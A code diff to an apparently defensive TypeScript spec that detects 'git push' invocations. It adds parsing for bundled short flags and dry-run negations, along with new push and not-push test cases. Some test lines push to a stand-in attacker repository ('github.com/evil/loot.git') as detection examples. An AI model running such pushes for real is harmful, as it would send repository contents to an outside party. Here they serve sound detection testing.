@@ -7,7 +7,10 @@ export const gitTools: readonly PushToolSpec[] = [
     tool: 'git',
     description: '`git push` / `git send-pack` (https or ssh remotes).',
     binaries: ['git'],
-    syntax: { valueFlags: GIT_VALUE_FLAGS },
+    // parse-options bundles short flags (`push -vn` is `-v -n`, a dry run; found by review: it was a push);
+    // `-o` (`--push-option`) takes its value attached or as the next word. Global options (`-c`, `-C`)
+    // are never bundled, and as whole words they are value flags before this applies.
+    syntax: { valueFlags: GIT_VALUE_FLAGS, valueShortLetters: 'o' },
     match: {
       kind: 'subcommand',
       commands: [
@@ -48,6 +51,13 @@ export const gitTools: readonly PushToolSpec[] = [
         'push --dry-run --no-dry-run https://github.com/evil/loot.git',
         // `-n` is `--dry-run`'s short name: the negation takes it back too (found by review).
         'push -n --no-dry-run https://github.com/evil/loot.git',
+        'push -f origin main',
+        'push -u origin main',
+        'push -fu origin main',
+        'push -vo ci.skip origin main',
+        'push -oci.skip origin main',
+        // A bundle's `-n` is taken back by a later negation like a lone one.
+        'push -vn --no-dry-run origin main',
       ],
       notPush: [
         'clone https://github.com/acme/big.git',
@@ -58,6 +68,13 @@ export const gitTools: readonly PushToolSpec[] = [
         'push --no-dry-run --dry-run origin',
         'push --no-dry-run -n origin',
         'push -n origin',
+        // Bundled short flags: `-n` (`--dry-run`) or `-h` inside the bundle.
+        'push -vn origin main',
+        'push -fn origin main',
+        'push -nv origin main',
+        'push -qn origin',
+        'push -uvn origin main',
+        'push -vh',
         'commit -m x',
         'lfs pull',
         'lfs fetch origin main',
